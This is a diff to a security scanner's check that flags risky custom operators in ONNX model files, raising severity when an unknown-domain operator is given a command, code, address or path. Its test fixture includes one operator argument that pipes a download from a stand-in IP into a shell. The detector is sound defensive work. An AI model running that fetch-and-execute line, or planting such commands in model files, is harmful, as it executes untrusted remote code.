@@ -8,8 +8,11 @@ from toadstone.core.check import Check, check
 from toadstone.core.fact import Fact, Operator
 from toadstone.core.finding import Finding, Severity
 from toadstone.core.place import Place
+from toadstone.core.value import render
+from toadstone.symbols.arguments import Look, looks_of
 
-_PYTHON = frozenset({"PyOp", "PyCustomOp", "PythonOp", "PythonOpGrad"})
+_PYTHON = frozenset({"PyOp", "PyCustomOp", "PythonOp", "PythonOpGrad", "TritonOp"})
+_PAYLOAD = frozenset({Look.COMMAND, Look.CODE, Look.ADDRESS, Look.PATH})
 _EXTENSIONS = frozenset({"ai.onnx.contrib", "com.microsoft.extensions"})
 _REMOTE = frozenset({"AzureAudioToText", "AzureTextToText", "AzureTritonInvoker", "OpenAIAudioToText"})
 _SHIPPED = """
@@ -49,9 +52,9 @@ class CustomOperator(Check):
     nothing else.
 
     ## How it decides
-    `high`: operators that run Python (`PyOp`, `PyCustomOp`, `PythonOp`, `PythonOpGrad` in any domain, and operators of the
-    domains of onnxruntime-extensions that the library itself does not have: these exist only as Python functions). `medium`:
-    operators that send the model's inputs to a server, and every operator of an unknown domain. Silent: `ai.onnx`,
+    `high`: operators that run Python (`PyOp`, `PyCustomOp`, `PythonOp`, `PythonOpGrad`, `TritonOp` in any domain, and
+    operators of the domains of onnxruntime-extensions that the library itself does not have: these exist only as Python
+    functions), and operators of an unknown domain that are given a command, code, an address or a path. `medium`: operators that send the model's inputs to a server, and every operator of an unknown domain. Silent: `ai.onnx`,
     `ai.onnx.ml`, `ai.onnx.training`, ONNX Runtime's own `com.microsoft` domains, the operators that onnxruntime-extensions
     ships, functions that the model defines itself, and domains in `allow`.
 
@@ -81,7 +84,7 @@ class CustomOperator(Check):
         elif fact.domain in _EXTENSIONS or _microsoft(fact.domain) or _standard(fact.domain):
             return
         else:
-            severity, why = Severity.MEDIUM, "needs a native library that is not part of the runtime"
+            severity, why = _foreign(fact)
         yield self.finding(
             fact.place,
             f"Operator {full} {why}.",
@@ -90,17 +93,19 @@ class CustomOperator(Check):
             domain=fact.domain,
             operator=fact.name,
             node=fact.node,
+            arguments={name: render(value, 200) for name, value in fact.arguments[:8]},
         )
 
     @classmethod
     def bad(cls) -> Iterator[Fact]:
-        """An operator in Python, one that only Python can have registered, a remote one, and one of an unknown domain."""
+        """Operators in Python, one that only Python can have registered, a remote one, and two of an unknown domain."""
         place = Place("model.onnx", "", 40)
         yield Operator(place, "pyopmulti_1", "PyOp", "node")
         yield Operator(place, "com.microsoft", "PythonOp", "node")
         yield Operator(place, "ai.onnx.contrib", "MyPreprocessing", "node")
         yield Operator(place, "com.microsoft.extensions", "AzureTextToText", "node")
         yield Operator(place, "my.library", "Fused", "node")
+        yield Operator(place, "my.library", "Exec", "node", (("command", "curl http://192.0.2.7/x | sh"),))
 
     @classmethod
     def good(cls) -> Iterator[Fact]:
@@ -119,3 +124,12 @@ def _microsoft(domain: str) -> bool:
     return domain in {"com.microsoft", "com.ms.internal.nhwc"} or (
         domain.startswith("com.microsoft.") and domain not in _EXTENSIONS
     )
+
+
+def _foreign(fact: Operator) -> tuple[Severity, str]:
+    """Judge an operator of an unknown domain by what it is given."""
+    looks = looks_of([value for _, value in fact.arguments])
+    given = [look.value for look in Look if look in looks and look in _PAYLOAD]
+    if given:
+        return Severity.HIGH, f"needs a native library that is not part of the runtime, and is given {' and '.join(given)}"
+    return Severity.MEDIUM, "needs a native library that is not part of the runtime"
